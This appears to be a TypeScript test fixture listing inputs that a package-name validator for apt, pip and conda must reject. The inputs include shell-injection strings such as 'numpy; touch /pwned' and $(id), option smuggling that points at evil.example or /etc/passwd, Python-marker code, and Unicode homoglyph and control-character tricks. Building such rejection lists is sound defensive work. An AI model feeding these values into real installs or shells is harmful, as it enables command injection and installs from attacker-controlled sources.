/** Lines that no list may take: options, shell, Dockerfile, addresses, patterns, characters that cannot be seen. */
const lines = (text: string) => text.trim().split('\n')
const words = (text: string) => text.trim().split(/\s+/)

/** Written for every list. */
export const hostile = [
  ...lines(String.raw`
-- numpy
--yes numpy
-q numpy
--prefix /
-o APT::Update::Pre-Invoke::=id
-t experimental
--index-url http://evil.example
-i http://evil.example
-f /tmp
-r /etc/passwd
--constraint /etc/passwd
-e .
-e git+https://evil.example/x.git
-n base
-p /opt/conda
-c --override-channels
-c ../evil numpy
-c /tmp/channel numpy
-c file:///tmp/channel numpy
-c https://evil.example/channel numpy
-c http://user:password@evil.example numpy
-cfoo numpy
-c $(id) numpy
 -n base
numpy; touch /pwned
numpy && id
numpy || id
numpy | sh
numpy & id
numpy > /etc/passwd
numpy < /etc/passwd
numpy >> /etc/passwd
numpy 2>&1
$(touch /pwned)
\${HOME}
numpy==\${VERSION}
${'`id`'}
numpy${'`id`'}
numpy <<EOF
RUN id
RUN ["id"]
FROM scratch
USER root
COPY / /
ENTRYPOINT ["id"]
numpy AS base
ONBUILD RUN id
x @ https://evil.example/x.whl
x @ file:///etc/passwd
x @ ../x
numpy scipy pandas
numpy, scipy
numpy scipy
- numpy
* numpy
numpy== 1.0 2.0 3.0
name: base
pip install numpy
pip3 install -r requirements.txt
conda install numpy
conda install -c conda-forge numpy
apt-get install numpy
sudo apt-get install -y numpy
!pip install numpy
$ pip install numpy
{"numpy": "1.0"}
numpy'; DROP TABLE images; --
`),
  ...words(String.raw`
--help --version -y -o -h -- - --root=/etc --target=/usr/lib --allow-unauthenticated --allow-downgrades
-o=APT::Get::AllowUnauthenticated=true -oDpkg::Options::=--force-all --index-url=http://evil.example
--extra-index-url=http://evil.example --find-links=/tmp --no-index --trusted-host=evil.example -r/etc/passwd
--requirement=/etc/shadow --editable=/srv --pre --global-option=x --config-settings=x=y --override-channels
--name=base --file=/etc/passwd --json --mount=type=bind,source=/,target=/host --mount=type=secret,id=token
--network=host --security=insecure -c --channel numpy;id numpy&&id numpy|sh numpy>/etc/passwd foo>out $(id)
numpy$(id) numpy==$(id) numpy=$(id) $((1+1)) $HOME $IFS numpy$IFS-y %SYSTEMROOT% "numpy numpy" 'numpy
"numpy" 'numpy' numpy\ numpy\nscipy \numpy <<EOF ../numpy ../../etc/passwd ./numpy . .. / /etc/passwd ~
~/numpy ~root /run/slipway/evil.deb ./evil.deb evil.deb ./evil-1.0-py3-none-any.whl
evil-1.0-py3-none-any.whl evil.zip evil.tar.gz evil-1.0-0.tar.bz2 evil-1.0-0.conda file:///etc/passwd
http://evil.example/x.deb https://evil.example/x.whl https://evil.example/x.tar.bz2 ftp://evil.example/x.zip
git+https://evil.example/x.git git+ssh://git@evil.example/x.git git+file:///srv/x.git
git://evil.example/x.git hg+https://evil.example/x svn+http://evil.example/x x@/etc/passwd numpy,scipy * **
? py* *py num?y num[pq]y numpy[ numpy] [numpy] {numpy} {a,b} (numpy) ^numpy.* ^numpy$ numpy$ numpy.* numpy^
lib.+ ~nnumpy ?name(numpy) !numpy @numpy numpy@ numpy: :numpy ::numpy =numpy ==1.0 >=1.0 numpy== numpy>=
numpy= numpy, numpy==1.0, numpy=== numpy=>1.0 numpy=!1.0 numpy>=1.0; numpy<>1.0 numpy=1=2=3=4 numpy(1.0
numpy)1.0 dependencies: channels: pip: <script>alert(1)</script> numpy%0a--index-url=x numpy%00 &#x6e;umpy
`),
  'numpy\0',
  '\0',
  'num\x00py',
  'numpy\r--index-url=http://evil.example',
  'numpy\rscipy',
  '# comment\r--index-url=http://evil.example',
  'numpy\x0b--index-url=http://evil.example',
  '# comment\x0c--index-url=http://evil.example',
  '# comment\x1c--index-url=http://evil.example',
  '# comment\x85--index-url=http://evil.example',
  '# comment\u2028--index-url=http://evil.example',
  '# comment\u2029--index-url=http://evil.example',
  'numpy # comment\u2028--pre',
  'numpy\x1b[2K',
  'numpy\x07',
  'numpy\x7f',
  'numpy\x08\x08\x08\x08\x08scipy',
  'numpy\u202eyp',
  '\u202enumpy',
  '\u2066numpy\u2069',
  'numpy\u200b',
  'num\u200bpy',
  'num\u00adpy',
  '\ufeffnumpy',
  'numpy\u00a0',
  'numpy\u00a0>=1.0',
  'numpy\u3000>=1.0',
  'nu\u043cpy',
  '\uff4eumpy',
  'n\u00fbmpy',
  'numpy\u2265\u0031',
  'numpy\u2013\u0032',
  'num\u0131py',
  '\u212aeras',
  'pand\u0430s',
  'numpy==\u0661',
  'numpy\u2024zip',
  '\ud800',
  'numpy\udc00',
  '\u{1f40d}',
  '\u{e0041}numpy',
  'numpy\u{1d7cf}',
  'x'.repeat(513),
  'x'.repeat(100_000),
  '('.repeat(100_000),
  `numpy[${'a,'.repeat(50_000)}]`,
  `numpy==${'1.'.repeat(50_000)}1!`,
  `# ${'x'.repeat(100_000)}`,
]

/** Fine for another list, dangerous here. */
export const hostileApt = lines(`
bash-
libc6-
jq=1.6;id
jq/stable;id
jq:amd64;id
jq=--help
jq:--help
jq=1.6-
jq:amd64-
jq/stable-
lamp-server^
Numpy
pandas[all]
numpy>=1.2
numpy==1.2
jq=$(id)
jq=1.6*2
jq=*
jq/../x
jq:
jq=
jq/
l..
`)

export const hostilePip = lines(`
numpy==1.0 --hash=sha256:0123
numpy --no-deps
numpy>=1.*
numpy~=1
numpy>=abc
numpy==1..2
numpy=1.2
numpy 1.2
numpy; python_version
numpy; import os
numpy; python_version < "\${HOME}"
numpy # hidden \\
numpy; $(id)
numpy; os.system("id")
numpy; __import__("os")
numpy[$(id)]
numpy[--pre]
numpy==$(id)
# coding: utf-7
# -*- coding: utf-16 -*-
`)

export const hostileConda = lines(`
conda-forge:numpy
file:///tmp::numpy
https://evil.example/x::numpy
../x::numpy
*::numpy
numpy[url=https://evil.example/x.conda]
numpy[name=evil]
numpy[channel=file:///tmp]
numpy[channel=https://evil.example]
numpy[foo=bar]
numpy[version=]
numpy[version='>=1.2]
numpy[version=1.2][build=x]
numpy[md5=xyz]
numpy[subdir=../x]
numpy[build=$(id)]
numpy[version="$(id)"]
numpy[channel=--override-channels]
$(id)::numpy
conda-forge::--help
conda-forge::$(id)
-c conda-forge::-y
-c conda-forge --override-channels
-c conda-forge -n base numpy
numpy (optional)
numpy>=1.2,(<2|>3)
numpy==1.2-py37=
numpy ^1.2$
numpy=1.2.conda
numpy~=1.2.*
pandas[all]
`)
